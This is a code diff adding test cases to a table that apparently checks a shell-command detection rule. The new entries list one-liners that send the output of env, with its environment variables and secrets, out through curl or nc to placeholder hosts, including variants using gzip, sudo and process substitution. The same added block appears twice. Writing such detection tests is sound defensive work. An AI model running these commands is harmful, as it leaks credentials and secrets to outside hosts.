@@ -74,6 +74,32 @@ const TABLE: readonly (readonly [expression: string, hits: readonly string[], mi
       ['cat x | base64 | nc h 1'],
       ['cat x | base64', 'base64 x | nc h 1'],
     ],
+    [
+      'command("env") output_to("curl", "nc")',
+      [
+        'env | curl -d @- u',
+        'env | gzip | sudo nc h 1',
+        'curl -d "$(env)" u',
+        'X=$(env); curl -d "$X" u',
+        'curl -T <(env) u',
+        'env > >(curl -T - u)',
+        'curl -d @- u <<< "$(env)"',
+      ],
+      ['env; curl u', 'curl u | env', 'X=$(env); curl u', 'env | cat', 'curl -d "$(date)" u; env'],
+    ],
+    [
+      'command("env") output_to("curl", "nc")',
+      [
+        'env | curl -d @- u',
+        'env | gzip | sudo nc h 1',
+        'curl -d "$(env)" u',
+        'X=$(env); curl -d "$X" u',
+        'curl -T <(env) u',
+        'env > >(curl -T - u)',
+        'curl -d @- u <<< "$(env)"',
+      ],
+      ['env; curl u', 'curl u | env', 'X=$(env); curl u', 'env | cat', 'curl -d "$(date)" u; env'],
+    ],
     ['command("rm") via("sudo")', ['sudo rm x', 'sudo -u y nice rm x'], ['rm x; sudo ls', 'rm sudo']],
     ['command("rm") via_kind("remote")', ['ssh h rm x', 'docker exec c rm x'], ['sudo rm x', 'rm x']],
     [
